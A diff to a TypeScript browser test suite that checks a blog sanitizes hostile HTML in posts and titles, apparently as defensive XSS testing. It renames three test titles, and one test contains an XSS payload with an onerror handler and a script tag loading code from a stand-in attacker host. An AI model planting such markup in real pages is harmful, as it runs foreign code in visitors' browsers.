@@ -111,7 +111,7 @@ const hitsOf = (page: Page, selector: string) =>
   });
 
 test.each(groups.map((htmls, at) => [at * attacksAPost, htmls] as const))(
-  "attacks from number %d on do nothing on the page of a post",
+  "attacks from number %d on have no effect on a post's page",
   async (at, htmls) => {
     const { slug, content } = await save(
       `attack-${at}-${crypto.randomUUID().slice(0, 8)}`,
@@ -134,7 +134,7 @@ test.each(groups.map((htmls, at) => [at * attacksAPost, htmls] as const))(
   },
 );
 
-test("titles that attack do nothing in the list of posts", async () => {
+test("malicious titles have no effect in the post list", async () => {
   await save(`attack-title-${crypto.randomUUID().slice(0, 8)}`, "<p>Text.</p>");
   const page = await watched();
   await page.goto(link("blog"), { waitUntil: "load" });
@@ -143,7 +143,7 @@ test("titles that attack do nothing in the list of posts", async () => {
   expect(page.happened).toEqual([]);
 });
 
-test("this test can see: uncleaned, attacks run, ask their host and leave their marks", async () => {
+test("detects unsanitized attacks: they run, contact their host and leave elements behind", async () => {
   const page = await watched();
   await openBare(page, `<img src=x onerror=hits++><script src=https://${attackerHost}/x.js></script></main>`);
   await expect.poll(() => page.evaluate("hits")).toBeGreaterThan(0);
